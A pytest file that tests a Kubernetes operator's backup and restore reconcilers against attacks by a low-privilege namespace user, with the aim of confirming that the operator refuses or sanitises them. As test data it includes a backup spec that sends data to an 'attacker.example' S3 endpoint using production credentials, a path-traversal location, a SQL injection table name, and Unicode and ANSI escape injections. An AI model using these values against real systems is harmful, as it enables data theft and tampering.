"""Attacks on the restore and backup reconcilers, by a namespace user who may create
VulcanBackups and VulcanRestores but may not read the namespace's Secrets (issue 12, items 1,
2, 4, 7 and 9), each on the real operator against the emulator.

Each test failed on c37051b (see the report of issue 12 for how that was checked): two
restores ran at once, another engine's backup or folder was restored, a location needed no
checksum, a side restore replaced the engine's own database, a restore whose Job's TTL ran out
while the operator was down held the engine at zero, a restore scaled the engine down under a
running backup, and a table name went into the status and the Succeeded Event unfiltered.
"""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncIterator
from typing import Any

import pytest

from tests.emulator import Emulator, JobOutcome
from tests.support.backups import (
    BACKUPS,
    CHECKSUM,
    COMPONENT,
    RESTORES,
    backup_result,
    cond,
    custom,
    db_secret,
    engine,
    events_of,
    installed,
    restore_result,
    run_cronjob,
    status,
)
from tests.support.kopf_runner import OperatorRunner

STORE = "pvc://prod-backups/default/prod"
LOCATION = f"{STORE}/on-demand/vulcan_20261129_020000.dump"
PASSWORD = "Pa$$-w0rd!"  # a test database's
URL = "postgresql://vulcan:Pa%24%24-w0rd%21@db:5432/vulcan"
WAIT = 15.0  # seconds for what the operator does next (generous: the suite runs under load)


@pytest.fixture(autouse=True)
def fast(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("VULCAN_RESYNC_SECONDS", "1")
    monkeypatch.setenv("VULCAN_POLL_SECONDS", "0.25")


def restore_jobs(emulator: Emulator, *, running: bool = False) -> list[dict[str, Any]]:
    found = [
        j
        for j in emulator.list("jobs", "default")
        if j["metadata"]["labels"].get(COMPONENT) == "restore"
    ]
    if running:
        found = [j for j in found if not j.get("status", {}).get("completionTime")]
        found = [
            j
            for j in found
            if not any(
                c.get("type") in ("Complete", "Failed") and c.get("status") == "True"
                for c in j.get("status", {}).get("conditions") or []
            )
        ]
    return found


def replicas(emulator: Emulator) -> int:
    return int(emulator.get("deployments", "default", "prod")["spec"]["replicas"])


def restore(emulator: Emulator, name: str) -> dict[str, Any]:
    return status(emulator, RESTORES, name)


async def ended(emulator: Emulator, name: str, within: float = 2 * WAIT) -> dict[str, Any]:
    found: dict[str, Any] = await emulator.wait_for(
        lambda: (
            restore(emulator, name)["phase"] in ("Succeeded", "Failed") and restore(emulator, name)
        ),
        timeout=within,
    )
    return found


def component_outcomes(emulator: Emulator, **by_component: JobOutcome) -> None:
    def choose(job: dict[str, Any]) -> JobOutcome | None:
        return by_component.get((job["metadata"].get("labels") or {}).get(COMPONENT, ""))

    emulator.jobs.outcome_for = choose


def failed_backup(emulator: Emulator, name: str) -> Any:
    """A predicate: the VulcanBackup `name`'s status once it has Failed."""
    return lambda: (
        status(emulator, BACKUPS, name)["phase"] == "Failed" and status(emulator, BACKUPS, name)
    )


def everything_said(emulator: Emulator, name: str) -> str:
    """The VulcanRestore as stored plus every Event about it."""
    events = [
        e.get("message") or ""
        for e in emulator.list("events", "default")
        if (e.get("involvedObject") or {}).get("name") == name
    ]
    return str(emulator.get(RESTORES, "default", name)) + "\n".join(events)


@contextlib.asynccontextmanager
async def most_restore_jobs(emulator: Emulator) -> AsyncIterator[list[int]]:
    """Watch (every 10 ms) how many restore Jobs run at once; yields [the most seen]."""
    most = [0]

    async def poll() -> None:
        while True:
            most[0] = max(most[0], len(restore_jobs(emulator, running=True)))
            await asyncio.sleep(0.01)

    task = asyncio.create_task(poll())
    try:
        yield most
    finally:
        task.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await task


# --- item 4: one restore at a time --------------------------------------------------------------
async def test_two_restores_created_together_take_turns(
    emulator: Emulator, operator: OperatorRunner
) -> None:
    component_outcomes(emulator, restore=JobOutcome.running())
    await installed(emulator, autoscaling={"enabled": False}, replicas=3)
    async with most_restore_jobs(emulator) as most:
        for name in ("r1", "r2"):
            emulator.create(custom("VulcanRestore", name, location=LOCATION, checksum=CHECKSUM))
        (first,) = await emulator.wait_for(lambda: restore_jobs(emulator), timeout=WAIT)
        holder = first["metadata"]["ownerReferences"][0]["name"]
        other = "r2" if holder == "r1" else "r1"
        waiting = await emulator.wait_for(
            lambda: (
                (c := cond(restore(emulator, other), "Ready"))["reason"] == "WaitingForRestore"
                and c
            ),
            timeout=WAIT,
        )
        assert f"VulcanRestore '{holder}'" in waiting["message"]
        assert restore(emulator, other)["phase"] == "Pending"
        assert status(emulator)["restore"]["name"] == holder
        await asyncio.sleep(1.0)  # several polls of both: still one Job, still waiting
        assert [j["metadata"]["name"] for j in restore_jobs(emulator)] == [
            first["metadata"]["name"]
        ]
        assert restore(emulator, other)["phase"] == "Pending"
        await emulator.wait_for(
            lambda: "WaitingForRestore" in events_of(emulator, other), timeout=WAIT
        )

        emulator.jobs.finish(
            "default",
            first["metadata"]["name"],
            JobOutcome.succeed(message=restore_result(LOCATION)),
        )
        assert (await ended(emulator, holder))["phase"] == "Succeeded"
        (second,) = await emulator.wait_for(
            lambda: [
                j
                for j in restore_jobs(emulator)
                if j["metadata"]["name"] != first["metadata"]["name"]
            ],
            timeout=WAIT,
        )
        assert second["metadata"]["ownerReferences"][0]["name"] == other
        assert status(emulator)["restore"]["name"] == other
        assert status(emulator)["restore"]["replicas"] == 3
        emulator.jobs.finish(
            "default",
            second["metadata"]["name"],
            JobOutcome.succeed(message=restore_result(LOCATION)),
        )
        assert (await ended(emulator, other))["phase"] == "Succeeded"
    assert most[0] == 1
    await emulator.wait_for(lambda: "restore" not in status(emulator), timeout=WAIT)
    await emulator.wait_for(lambda: replicas(emulator) == 3, timeout=WAIT)


# --- items 1 and 2: the engine's own store, a recorded checksum -----------------------------------
async def _other_engine_backup(emulator: Emulator) -> str:
    """A Succeeded VulcanBackup of the engine `other` (same namespace); its location."""
    where = "pvc://other-backups/default/other/on-demand/vulcan_20261129_020000.dump"
    component_outcomes(
        emulator, backup=JobOutcome.succeed(message=backup_result(where, engine="other"))
    )
    secret = db_secret()
    secret["metadata"]["name"] = "other-database"
    emulator.create(secret)
    theirs = engine()
    theirs["metadata"]["name"] = "other"
    emulator.create(theirs)
    backup = custom("VulcanBackup", "theirs")
    backup["spec"]["engineRef"]["name"] = "other"
    emulator.create(backup)
    await emulator.wait_for(
        lambda: status(emulator, BACKUPS, "theirs")["phase"] == "Succeeded", timeout=60
    )
    return where


async def test_a_restore_from_another_engines_backup_is_refused(
    emulator: Emulator, operator: OperatorRunner
) -> None:
    await installed(emulator, autoscaling={"enabled": False}, replicas=2)
    await _other_engine_backup(emulator)
    emulator.create(custom("VulcanRestore", "r1", backupRef={"name": "theirs"}))
    st = await ended(emulator, "r1")
    assert st["phase"] == "Failed"
    assert "spec.backupRef" in cond(st, "Ready")["message"]
    assert "'other'" in cond(st, "Ready")["message"]
    await asyncio.sleep(0.6)
    assert restore_jobs(emulator) == [] and replicas(emulator) == 2
    assert "restore" not in status(emulator)


@pytest.mark.parametrize(
    "location",
    [
        "pvc://prod-backups/default/other/on-demand/vulcan_20261129_020000.dump",  # its folder
        "pvc://other-backups/default/other/vulcan_20261129_020000.dump",  # its claim
        "pvc://prod-backups/default/prod/../other/vulcan_20261129_020000.dump",
        "pvc://prod-backups/default/prod/on-demand/notes.txt",  # not a backup file
        "s3://anybucket/default/prod/vulcan_20261129_020000.dump",  # another store
    ],
)
async def test_a_restore_from_outside_the_engines_store_is_refused(
    emulator: Emulator, operator: OperatorRunner, location: str
) -> None:
    await installed(emulator, autoscaling={"enabled": False}, replicas=2)
    emulator.create(  # another engine's claim, in the same namespace
        {
            "apiVersion": "v1",
            "kind": "PersistentVolumeClaim",
            "metadata": {"name": "other-backups", "namespace": "default"},
            "spec": {
                "accessModes": ["ReadWriteOnce"],
                "resources": {"requests": {"storage": "1Gi"}},
            },
        }
    )
    emulator.create(custom("VulcanRestore", "r1", location=location, checksum=CHECKSUM))
    st = await ended(emulator, "r1")
    assert st["phase"] == "Failed"
    assert "spec.location" in cond(st, "Ready")["message"]
    await emulator.wait_for(lambda: "Failed" in events_of(emulator, "r1"), timeout=WAIT)
    await asyncio.sleep(0.6)
    assert restore_jobs(emulator) == [] and replicas(emulator) == 2


async def test_a_restore_from_a_location_without_a_checksum_is_refused(
    emulator: Emulator, operator: OperatorRunner
) -> None:
    await installed(emulator, autoscaling={"enabled": False}, replicas=2)
    emulator.create(custom("VulcanRestore", "r1", location=LOCATION))  # the CEL rule bypassed
    st = await ended(emulator, "r1")
    assert st["phase"] == "Failed"
    assert "checksum" in cond(st, "Ready")["message"]
    await asyncio.sleep(0.6)
    assert restore_jobs(emulator) == [] and replicas(emulator) == 2


async def test_a_backup_with_its_own_storage_is_refused(
    emulator: Emulator, operator: OperatorRunner
) -> None:
    component_outcomes(emulator, backup=JobOutcome.succeed(message=backup_result(LOCATION)))
    await installed(emulator)
    exfiltrate = {
        "s3": {
            "bucket": "attacker",
            "endpoint": "http://attacker.example:9000",
            "credentialsSecretRef": {"name": "prod-backup-s3"},
        }
    }
    for name, storage in (("out", exfiltrate), ("squat", {"pvc": {"size": "900Ti"}})):
        emulator.create(custom("VulcanBackup", name, storage=storage))
    for name in ("out", "squat"):
        st = await emulator.wait_for(failed_backup(emulator, name), timeout=WAIT)
        ready = cond(st, "Ready")
        assert ready["reason"] == "InvalidSpec" and "spec.storage" in ready["message"]
    await asyncio.sleep(0.6)
    assert [
        j
        for j in emulator.list("jobs", "default")
        if j["metadata"]["labels"].get(COMPONENT) == "backup"
    ] == []
    assert [c["metadata"]["name"] for c in emulator.list("persistentvolumeclaims", "default")] in (
        [],
        ["prod-backups"],
    )


# --- item 7: a side restore never replaces the engine's own database ------------------------------
async def test_a_side_restore_into_the_engines_own_database_is_refused(
    emulator: Emulator, operator: OperatorRunner
) -> None:
    await installed(emulator, url=URL, autoscaling={"enabled": False}, replicas=2)
    emulator.create(
        custom("VulcanRestore", "r1", location=LOCATION, checksum=CHECKSUM, targetDatabase="vulcan")
    )
    st = await ended(emulator, "r1")
    assert st["phase"] == "Failed"
    message = cond(st, "Ready")["message"]
    assert "spec.targetDatabase" in message and "own database" in message
    await emulator.wait_for(lambda: "Failed" in events_of(emulator, "r1"), timeout=WAIT)
    assert PASSWORD not in everything_said(emulator, "r1")
    await asyncio.sleep(0.6)
    assert restore_jobs(emulator) == [] and replicas(emulator) == 2
    assert "restore" not in status(emulator)


# --- item 9: results the TTL cannot take, backups not cut short -----------------------------------
async def test_a_restore_whose_job_ttl_ran_out_while_the_operator_was_down_succeeds(
    emulator: Emulator, operator: OperatorRunner
) -> None:
    component_outcomes(emulator, restore=JobOutcome.running())
    await installed(emulator, autoscaling={"enabled": False}, replicas=3)
    emulator.create(custom("VulcanRestore", "r1", location=LOCATION, checksum=CHECKSUM))
    (job,) = await emulator.wait_for(lambda: restore_jobs(emulator), timeout=WAIT)
    await emulator.wait_for(lambda: replicas(emulator) == 0, timeout=WAIT)
    await operator.stop()
    name = job["metadata"]["name"]
    emulator.jobs.finish("default", name, JobOutcome.succeed(message=restore_result(LOCATION)))
    # The operator stays down longer than the Job's TTL, if it has one: the TTL controller
    # deletes it (the emulator's controller would, after ttlSecondsAfterFinished).
    if emulator.get("jobs", "default", name)["spec"].get("ttlSecondsAfterFinished") is not None:
        emulator.delete("jobs", "default", name)
    await operator.start()
    st = await ended(emulator, "r1")
    assert st["phase"] == "Succeeded", st.get("failure")
    assert st["rowCounts"] == {"jobs": 500, "tasks": 2500}
    await emulator.wait_for(lambda: "restore" not in status(emulator), timeout=WAIT)
    await emulator.wait_for(lambda: replicas(emulator) == 3, timeout=WAIT)
    await emulator.wait_for(
        lambda: emulator.get("jobs", "default", name) is None, timeout=WAIT
    )  # the operator's


@pytest.mark.parametrize("kind", ["scheduled", "VulcanBackup"])
async def test_a_restore_waits_for_a_running_backup_before_scaling_down(
    emulator: Emulator, operator: OperatorRunner, kind: str
) -> None:
    component_outcomes(
        emulator,
        backup=JobOutcome.running(),
        restore=JobOutcome.succeed(message=restore_result(LOCATION)),
    )
    await installed(emulator, autoscaling={"enabled": False}, replicas=2)
    if kind == "scheduled":
        backup_job = run_cronjob(emulator, "prod-backup", "29000000")
    else:
        emulator.create(custom("VulcanBackup", "manual-1"))
        (found,) = await emulator.wait_for(
            lambda: [
                j
                for j in emulator.list("jobs", "default")
                if j["metadata"]["labels"].get(COMPONENT) == "backup"
            ],
            timeout=WAIT,
        )
        backup_job = found["metadata"]["name"]
    emulator.create(custom("VulcanRestore", "r1", location=LOCATION, checksum=CHECKSUM))
    waiting = await emulator.wait_for(
        lambda: (c := cond(restore(emulator, "r1"), "Ready"))["reason"] == "WaitingForBackup" and c,
        timeout=WAIT,
    )
    assert backup_job in waiting["message"]
    await asyncio.sleep(1.0)  # several polls: still waiting, the engine still serving
    assert restore(emulator, "r1")["phase"] == "Pending"
    assert replicas(emulator) == 2 and "restore" not in status(emulator)
    assert restore_jobs(emulator) == []
    await emulator.wait_for(lambda: "WaitingForBackup" in events_of(emulator, "r1"), timeout=WAIT)

    emulator.jobs.finish("default", backup_job, JobOutcome.succeed(message=backup_result(LOCATION)))
    assert (await ended(emulator, "r1"))["phase"] == "Succeeded"
    await emulator.wait_for(lambda: replicas(emulator) == 2, timeout=WAIT)


# --- item 2: server-derived strings never reach status or Events unfiltered -----------------------
async def test_hostile_table_names_never_reach_status_or_events(
    emulator: Emulator, operator: OperatorRunner
) -> None:
    rows = (
        '{"jobs":500,"public.tasks":2500,'
        f'"{PASSWORD}":1,"jobs\\"; DROP TABLE jobs; --":2,"Tasks":3,"x\\u202egnp":4,'
        '"a.b.c":5,"other":6}'
    )
    line = restore_result(LOCATION, rows_json=rows, revision=f"{PASSWORD}\u001b[31m")
    component_outcomes(emulator, restore=JobOutcome.succeed(message=line))
    await installed(emulator, url=URL, autoscaling={"enabled": False}, replicas=2)
    emulator.create(custom("VulcanRestore", "r1", location=LOCATION, checksum=CHECKSUM))
    st = await ended(emulator, "r1")
    assert st["phase"] == "Succeeded", st.get("failure")
    assert st["rowCounts"] == {"jobs": 500, "public.tasks": 2500, "other": 21}
    assert "databaseRevision" not in st
    await emulator.wait_for(lambda: "Succeeded" in events_of(emulator, "r1"), timeout=WAIT)
    said = everything_said(emulator, "r1")
    for bad in (PASSWORD, "DROP TABLE", "\u202e", "Tasks", "a.b.c", "\u001b"):
        assert bad not in said


def test_the_reconcile_filters_what_a_pod_reports() -> None:
    """The second line behind the programs' own filter (decision 6 of issue 12)."""
    from vulcan_operator.reconcile.jobs import (
        plain_text,
        safe_database,
        safe_revision,
        safe_row_counts,
    )

    hostile = {
        "jobs": 5,
        "public.tasks": 6,
        PASSWORD: 1,
        "a.b.c": 2,
        "UPPER": 3,
        "x" * 64: 4,
        "other": 7,
        "neg": -1,
        "text": "12",
        "flag": True,
    }
    assert safe_row_counts(hostile) == {"jobs": 5, "public.tasks": 6, "other": 17}
    assert safe_row_counts({"jobs\n": 1, "jobs": 2}) == {"jobs": 2, "other": 1}
    assert safe_row_counts({f"t{i:03d}": 1 for i in range(150)})["other"] == 50
    assert safe_row_counts(["jobs"]) == {} and safe_row_counts(None) == {}
    assert safe_revision("4f2a9c1d7e3b,9b1c") == "4f2a9c1d7e3b,9b1c"
    for bad in (PASSWORD, "", "a" * 129, "rev\n", None, 5):
        assert safe_revision(bad) is None
    assert safe_database("vulcan_inspect") == "vulcan_inspect"
    assert (
        plain_text('relation "a\u202etxt.exe"\nexists\x1b[31m')
        == 'relation "a?txt.exe" exists?[31m'
    )
    assert len(plain_text("x" * 5000)) == 1000
    assert safe_database("x; DROP") is None and safe_database("vulcan\n") is None


async def test_a_malformed_database_url_is_a_condition_not_an_exception(
    emulator: Emulator, operator: OperatorRunner
) -> None:
    await installed(emulator, autoscaling={"enabled": False}, replicas=2)
    bad = f"postgresql://vulcan:{PASSWORD}@db:99999999/vulcan"
    emulator.patch("secrets", "default", "prod-database", {"stringData": {"database-url": bad}})
    emulator.create(
        custom("VulcanRestore", "r1", location=LOCATION, checksum=CHECKSUM, targetDatabase="side")
    )
    st = await ended(emulator, "r1")
    assert st["phase"] == "Failed"
    message = cond(st, "Ready")["message"]
    assert "Secret 'prod-database'" in message and "not a valid postgresql:// URL" in message
    await emulator.wait_for(lambda: "Failed" in events_of(emulator, "r1"), timeout=WAIT)
    assert PASSWORD not in everything_said(emulator, "r1") and "99999999" not in message
    assert restore_jobs(emulator) == []
